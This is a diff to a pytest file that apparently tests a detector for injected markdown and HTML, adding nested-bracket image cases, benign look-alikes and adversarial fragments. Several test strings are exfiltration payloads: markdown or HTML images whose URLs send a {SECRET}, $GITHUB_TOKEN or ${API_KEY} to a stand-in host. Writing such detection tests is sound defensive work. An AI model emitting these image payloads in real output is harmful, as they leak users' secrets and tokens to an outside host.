@@ -97,6 +97,15 @@ EXFILTRATING_IMAGES = {
     "html img without quotes": "<img src=https://x.example/p?q=$GITHUB_TOKEN>",
 }
 
+NESTED_IMAGES = {  # alt text as CommonMark reads link text: brackets balanced or escaped, code spans
+    "brackets in the alt text": "![see [1] here](https://x.example/p?d={SECRET})",
+    "brackets two deep": "![a [b [c]] d](https://x.example/p?d={SECRET})",
+    "an escaped bracket": "![a \\] b](https://x.example/p?d={SECRET})",
+    "a bracket in a code span": "![a `]` b](https://x.example/p?d={SECRET})",
+    "brackets in a referenced image's alt": "![see [1] here][r]\n\n[r]: https://x.example/p?d={SECRET}",
+    "an escaped bracket in a label": "![a \\] b]\n\n[a \\] b]: https://x.example/p?d={SECRET}",
+}
+
 REFERENCED_IMAGES = {  # the placeholder is in a reference definition, which is no image by itself
     "full reference": "Status: ![ok][r]\n\n[r]: https://x.example/p?d={SECRET}",
     "collapsed reference": "![ok][]\n\n[ok]: https://x.example/p?d=${API_KEY}",
@@ -146,7 +155,7 @@ STYLES = {  # a stylesheet rules the whole page; a renderer fetches what CSS nam
     "css expression": '<div style="width: expression(alert(1))">x</div>',
 }
 
-ATTACKS = {**SCRIPT_LINKS, **ELEMENTS, **EXFILTRATING_IMAGES, **REFERENCED_IMAGES, **REDIRECTS, **STYLES}
+ATTACKS = {**SCRIPT_LINKS, **ELEMENTS, **EXFILTRATING_IMAGES, **NESTED_IMAGES, **REFERENCED_IMAGES, **REDIRECTS, **STYLES}
 
 
 @pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS)
@@ -203,6 +212,10 @@ ORDINARY = {
     "icon link": '<link rel="icon" href="https://example.com/favicon.ico">',
     "tags named like style": "Follow <style-guide> and <styles> in the docs.",
     "image reference in a code span": "Write `![ok][r]` for it.\n\n[r]: https://example.com/{v}/a.png",
+    "image, then a link to a template": "![logo](a.png) and [the docs](https://example.com/{version}/retry)",
+    "link in an image's alt text": "![see [the docs](https://example.com/{v}) here](https://example.com/a.png)",
+    "escaped image": "\\![x](https://example.com/{v})",
+    "brackets across a blank line": "![x\n\n](https://example.com/{v})",
 }
 
 
@@ -229,7 +242,8 @@ def test_counts_are_in_findings_never_the_material() -> None:
 ADVERSARIAL_UNITS = ["<a b=c ", '<a x="', "`<a ", "](java ", "![a](", "<a onclick={x} ", "]:&#",
                      "[r]: {x}\n![r]", "![r][", "[a", "[a]:\n", "![", "[r]: <{x}\n![r][r]",
                      "<meta http-equiv=refresh content='", "<base ", "<meta content=0;url= ", "<link href={",
-                     '<a style="url(', "<a style='url(\"", '<a style="/*', '<a style="\\', '<a style="u\\72l( ']
+                     '<a style="url(', "<a style='url(\"", '<a style="/*', '<a style="\\', '<a style="u\\72l( ',
+                     "![[", "](x{y}", "![a \\]", "![a](x{y}) [", "](<{y}"]
 
 
 @pytest.mark.parametrize("unit", ADVERSARIAL_UNITS)
